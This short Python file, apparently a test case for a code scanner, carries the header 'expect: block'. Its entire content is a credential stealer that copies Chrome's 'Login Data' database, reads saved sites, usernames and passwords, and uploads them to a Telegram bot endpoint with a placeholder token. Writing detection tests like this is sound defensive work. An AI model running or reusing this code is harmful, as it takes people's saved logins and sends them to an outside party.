# expect: block
import os
import shutil
import sqlite3
import tempfile

import requests

profile = os.path.join(os.path.expanduser("~"), ".config", "google-chrome", "Default")
tmp = os.path.join(tempfile.gettempdir(), "ld.db")
shutil.copyfile(os.path.join(profile, "Login Data"), tmp)
rows = sqlite3.connect(tmp).execute(
    "SELECT origin_url, username_value, password_value FROM logins"
).fetchall()
requests.post(
    "https://api.telegram.org/bot123:ABC/sendDocument",
    data={"chat_id": "42"},
    files={"document": ("l.txt", repr(rows))},
    timeout=10,
)
